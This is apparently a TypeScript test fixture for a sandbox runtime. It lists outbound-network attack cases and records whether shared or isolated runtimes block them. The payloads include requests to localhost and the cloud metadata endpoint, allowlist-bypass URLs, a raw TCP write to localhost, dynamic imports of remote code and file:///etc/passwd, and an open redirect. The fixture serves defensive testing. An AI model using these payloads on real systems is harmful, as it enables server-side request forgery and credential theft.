import { type AttackKind, attacking } from './attack.ts'

/** Tries each address with `call`, and says what came of it. */
const tryEach = (addresses: readonly string[], call: string): string =>
  `for (const address of ${JSON.stringify(addresses)}) {
      try {
        const call = ${call}
        got.push(address + ' ' + String(await call(address)))
      } catch (error) {
        got.push(address + ' ' + String(error))
      }
    }`

const INSIDE = [
  'http://127.0.0.1/',
  'http://169.254.169.254/latest/meta-data',
  'https://forbidden.example/',
  'http://admin.localhost/',
  'https://victim.localhost/visitors',
]

export const outward: AttackKind = {
  title: 'Reaching outside',
  attacks: [
    {
      key: 'out-fetch',
      tries: 'calls any address by the runtime’s own `fetch`',
      source: attacking(tryEach(INSIDE, '(at) => fetch(at).then((answer) => answer.text())')),
      build: 'passes',
      shared: ['reached'],
      isolated: [],
      note: 'An isolate has no network',
    },
    {
      key: 'out-allowed',
      tries:
        'calls what its record does not allow by the runtime’s own `fetch`, where the record allows something',
      source: attacking(
        tryEach(
          [
            ...INSIDE,
            'http://api.example.com/',
            'https://api.example.com:8443/',
            'https://user@api.example.com/',
            'https://api.example.com.forbidden.example/',
          ],
          '(at) => fetch(at).then((answer) => answer.text())',
        ),
      ),
      record: { outbound: ['api.example.com'] },
      build: 'passes',
      shared: ['reached'],
      isolated: [],
      note: 'The gateway looks at every call',
    },
    {
      key: 'out-port',
      tries: 'calls any address by `c.env.http`',
      source: attacking(tryEach(INSIDE, '(at) => c.env.http.fetch(at)')),
      record: { outbound: ['api.example.com'] },
      says: 'TypeError',
      build: 'passes',
      shared: [],
      isolated: [],
      note: 'The port looks at every call',
    },
    {
      key: 'out-websocket',
      tries: 'opens web sockets and event streams',
      source: attacking(
        tryEach(
          ['https://forbidden.example/'],
          `async (at) => {
          const upgraded = await fetch(at, { headers: { Upgrade: 'websocket' } }).catch(String)
          const socket = new WebSocket(at.replace('https', 'wss'))
          const stream = typeof EventSource === 'undefined' ? null : new EventSource(at)
          await new Promise((resolve) => setTimeout(resolve, 50))
          return upgraded + ' ' + socket.readyState + ' ' + stream?.readyState
        }`,
        ),
      ),
      spoils: true,
      build: 'passes',
      shared: ['reached'],
      isolated: [],
      note: 'An isolate has no network',
    },
    {
      key: 'out-socket',
      tries: 'opens a TCP connection by `cloudflare:sockets`',
      source: attacking(
        `const port = Number(new URL(c.req.url).searchParams.get('port'))
    try {
      const socket = connect({ hostname: '127.0.0.1', port })
      const writer = socket.writable.getWriter()
      await Promise.race([writer.write(new TextEncoder().encode('p0wned')), new Promise((resolve) => setTimeout(resolve, 200))])
      got.push('written')
    } catch (error) {
      got.push(String(error))
    }`,
        `import { connect } from 'cloudflare:sockets'`,
      ),
      visits: ['/attack?port=TCP'],
      build: 'refused',
      shared: ['reached'],
      isolated: [],
      note: 'An isolate has no network',
    },
    {
      key: 'out-import',
      tries: 'imports code by its address, and from text',
      source: attacking(
        tryEach(
          [
            'https://forbidden.example/code.js',
            'data:text/javascript,export default "p0wned"',
            'blob:null/1',
            'file:///etc/passwd',
          ],
          `async (at) => JSON.stringify(await import(/* @vite-ignore */ at))`,
        ),
      ),
      says: 'Module not found',
      build: 'refused',
      shared: [],
      isolated: [],
      note: 'The runtime imports only what it was built with',
    },
    {
      key: 'out-redirect',
      tries: 'sends its visitors elsewhere',
      source: attacking(`return c.redirect('https://forbidden.example/sign-in', 302)`),
      status: 302,
      build: 'passes',
      shared: [],
      isolated: [],
      note: 'An event’s own routes lead where they want; the base’s never do',
    },
  ],
}
